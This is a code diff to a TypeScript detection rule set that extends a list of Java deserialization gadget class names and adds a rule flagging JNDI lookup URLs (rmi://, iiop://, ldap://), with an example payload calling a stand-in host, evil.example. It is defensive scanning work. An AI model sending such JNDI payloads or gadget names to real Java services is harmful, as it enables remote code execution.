@@ -1,5 +1,6 @@
 import { word } from "../keywords.ts";
 import type { Pattern } from "../pattern.ts";
+import { isPublicAddress } from "../public_address.ts";
 import { BOUND, LINE, NUMBER, type Tokens } from "../tokens.ts";
 
 const OBJECT = word("object"), RUBY = word("ruby"), PYTHON = word("python"), JAVAX = word("javax");
@@ -25,6 +26,12 @@ const GADGETS = new Set(
     "annotationinvocationhandler",
     "initialcontext",
     "jndirefforwardingdatasource",
+    "jndiconnectionsource",
+    "jndirefconnectionpool",
+    "jndiconverter",
+    "jndipropertyaccessor",
+    "jndiobjectfactorybean",
+    "propertypathfactorybean",
   ].map(word),
 );
 const REMAKES = new Set(["reduce", "function", "type", "module", "repr"].map(word));
@@ -86,8 +93,40 @@ function isSerializedObject(t: Tokens, i: number): boolean {
     t.glued(i + 3) && (t.isQuote(i + 4) || t.kind[i + 4] === BACKSLASH || t.kind[i + 4] === BOUND);
 }
 
+/**
+ * `{"jndiLocation":"rmi://x/o"}`: a name that is looked up where the text says. LDAP is a directory of the house too, so that
+ * the key has to be one of those that look up; RMI and CORBA nobody sends otherwise.
+ */
+function isRemoteName(t: Tokens, i: number): boolean {
+  if (
+    t.kind[i - 1] !== BOUND || t.kind[i + 1] !== COLON || t.kind[i + 2] !== SLASH || t.kind[i + 3] !== SLASH ||
+    !t.glued(i + 1) || !t.glued(i + 2) || !t.glued(i + 3) || t.kind[i + 4] === BOUND
+  ) return false;
+  if (!DIRECTORIES.has(t.word[i] as number)) return true;
+  const isKey = t.kind[i - 2] === COLON && t.kind[i - 3] === BOUND && t.kind[i - 5] === BOUND;
+  if (isKey) return JNDI_KEYS.has(t.word[i - 4] as number);
+  // ldap://203.0.113.5/x, and nothing else
+  return t.kind[i - 2] === BOUND && t.kind[i + 4] === NUMBER && isPublicAddress(t.bytes, t.start[i + 4] as number);
+}
+const DIRECTORIES = new Set(["ldap", "ldaps"].map(word));
+const JNDI_KEYS = new Set(
+  ["jndilocation", "jndiname", "jndipath", "datasourcename", "namingname", "lookup", "jndi", "asjson", "beanname"].map(
+    word,
+  ),
+);
+
 /** Objects that run code when they are made again. */
 export const SERIALIZED = {
+  remoteName: {
+    name: "cmd-remote-name",
+    category: "command-injection",
+    severity: "high",
+    catches: "A name that Java is to look up at a server of the caller: rmi://, iiop://, ldap:// under a key of JNDI",
+    example: '{"jndiLocation":"rmi://evil.example/o"}',
+    nearMiss: '{"directory":"ldap://10.0.0.5/dc=example"} rmi: 5',
+    at: ["rmi", "iiop", "corba", "ldap", "ldaps"].map(word),
+    test: isRemoteName,
+  },
   object: {
     name: "cmd-serialized",
     category: "command-injection",
